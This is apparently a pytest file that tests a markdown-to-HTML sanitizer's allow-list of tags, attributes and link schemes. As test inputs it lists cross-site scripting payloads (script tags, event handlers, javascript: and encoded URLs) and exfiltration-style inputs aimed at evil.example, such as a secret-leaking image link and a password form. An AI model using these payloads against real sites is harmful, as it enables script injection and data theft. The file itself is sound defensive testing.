"""What people, agents and Git write, as HTML: an allow-list, whatever they try."""

import re
from pathlib import Path

import pytest

from apps.tasks.markdown import to_html
from apps.tasks.markdown.marks import Marks

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?d=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "<a href='vbscript:x'>x</a>",
    '<div style="position:fixed" id="board" class="card">x</div>',
    "<svg><script>1</script></svg>",
    "<iframe src=//evil.example></iframe>",
    "<javascript:alert(1)>",
    "![ref][r]\n\n[r]: https://evil.example/p.png",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "| a |\n|:-:|\n| <b onclick=x>b</b> |",
    "<form action=//evil.example><input name=password></form>",
]


@pytest.mark.req("X1", "X2", "G2")
@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_allows_listed_html_only(attack):
    html = to_html(attack)
    tags = set(re.findall(r"<([a-z0-9]+)", html))
    assert not tags & {"script", "img", "iframe", "svg", "form", "div", "style", "object"}
    assert not re.search(r"<[^>]+ (?:style|id|class|on\w+|src)=", html)
    assert not re.search(r'href="(?!https?:|mailto:)', html)


def test_markdown_links_send_no_referrer():
    assert 'rel="noopener noreferrer nofollow"' in to_html("https://example.org")


def test_markdown_task_list_keeps_its_boxes():
    html = to_html("- [x] done\n- [ ] open")
    assert html.count('type="checkbox"') == 2
    assert "disabled" in html


CORPUS = sorted((Path(__file__).parent / "corpus").glob("*.md"))


@pytest.mark.req("FLT-32")
@pytest.mark.parametrize("path", CORPUS, ids=lambda path: path.stem)
def test_readmes_templates_answers_and_mails_show_no_markup_and_link_only_to_the_web(path):
    text = path.read_text()
    html = to_html(text, file_page=lambda link: f"https://forge.example/{link}")
    shown = re.sub(r"<pre.*?</pre>|<code>.*?</code>", "", html, flags=re.DOTALL)
    words = re.sub(r"<[^>]*>", "", shown)
    assert not re.search(
        r"!\[|\]\(|<!--|-->|&lt;/?(?:details|summary|br|p|img|a|h1|kbd|sub|div|table|td)\b|\*\*", words
    )
    assert not re.search(r'<a (?![^>]*href="(?:https?:|mailto:))', html)
    assert "style=" not in html
    lost = [word for word in re.findall(r"[^\W\d_]{4,}", without_markup(text)) if word not in html]
    assert lost == []


def without_markup(text: str) -> str:
    """The words of `text` that a reader should find: neither comments, tags, targets nor what a code block is in."""
    text = re.sub(r"<!--.*?-->|^```.*$|^\[.*\]: .*$", "", text, flags=re.DOTALL | re.MULTILINE)
    return re.sub(r"\]\([^)]*\)|</?(?:[a-z]+[0-9]?)(?:\s[^<>]*)?/?>", " ", text)


@pytest.mark.req("FLT-32")
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**「重要」**です", "<strong>「重要」</strong>です"),
        ("**テスト。**次", "<strong>テスト。</strong>次"),
        ("*\uff08注\uff09*です", "<em>\uff08注\uff09</em>です"),
        ("これは**[link](https://a.example)**です", "これは<strong><a "),
        ("**이것(this)**은", "<strong>이것(this)</strong>은"),
        ("**a.**b", "**a.**b"),  # as CommonMark has it
        ("2 * 3 * 4", "2 * 3 * 4"),
    ],
)
def test_emphasis_beside_chinese_japanese_and_korean(text, html):
    assert html in to_html(text)


@pytest.mark.req("FLT-32")
@pytest.mark.parametrize("name", ["README.md", "setup.sh", "db.py", "main.rs", "example.com", "log.txt", "a.co/b"])
def test_name_with_a_dot_is_no_address(name):
    assert "<a " not in to_html(f"See {name}, please.")


@pytest.mark.req("FLT-32")
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[a](docs/a.md)", "<p>a</p>"),
        ("[a](#top)", "<p>a</p>"),
        ("[a](//evil.example)", "<p>a</p>"),
        ("![shot](shot.png)", "<p>shot</p>"),
        ('<a href="docs/a.md"><b>a</b></a> <a name="x">y</a>', "<p><b>a</b> y</p>"),
    ],
)
def test_link_that_leads_nowhere_is_plain_text(text, html):
    assert to_html(text).strip().replace(' dir="auto"', "") == html
    assert 'href="/projects/TIDE/"' in to_html("[board](/projects/TIDE/)", file_page=lambda link: "https://x.example")


@pytest.mark.req("FLT-32", "FLT-29")
@pytest.mark.parametrize(
    "before", ["[a </a> b](https://x.example)", "</a>", "<a href='https://x.example'>a</a>", "[<a href='b'>](c)"]
)
def test_what_follows_the_end_of_a_link_is_read_as_ever(before):
    marks = Marks(lambda text, at: (at + 4, "<b>Ana</b>"), re.compile("TIDE-1"), lambda keys: {"TIDE-1": "<i>1</i>"})
    html = to_html(f"{before} @ana TIDE-1 https://y.example", marks)
    assert "<b>Ana</b> <i>1</i>" in html
    assert 'href="https://y.example"' in html


@pytest.mark.req("FLT-32", "X2")
@pytest.mark.parametrize(
    "text",
    [
        '<span class="mention" data-user="1">@ana</span>',
        '<a class="chip" data-task="1" href="https://x.example">TIDE-1</a>',
        '<p class="card" id="board" style="x" onclick="y">a</p>',
        '<details ontoggle="x" open><summary onclick="y">a</summary></details>',
        '<td align="right" onclick=x>',
        "<a href='javascript:alert(1)'>a</a>",
        '<a href="&#106;avascript:alert(1)">a</a>',
        '<img src="javascript:alert(1)" alt="<script>">',
        '<img alt="x" src="https://x.example/?a=&quot;><script>alert(1)</script>">',
        "<!-- --><script>alert(1)</script>",
        "<br/onload=x>",
    ],
)
def test_tags_bring_nothing_but_an_address_and_an_alignment(text):
    for html in (to_html(text), to_html(f"inline {text} after")):
        tags = re.findall(r"<([a-z0-9]+)((?:\s[^>]*)?)>", html)
        assert {name for name, _attributes in tags}.isdisjoint({"script", "img", "span", "div", "svg"})
        kept = {key for _name, attributes in tags for key in re.findall(r"\s([a-z-]+)=", attributes)}
        assert kept <= {"href", "rel", "align", "tabindex", "dir"}
        assert not re.search(r'href="(?!https?:|mailto:)', html)
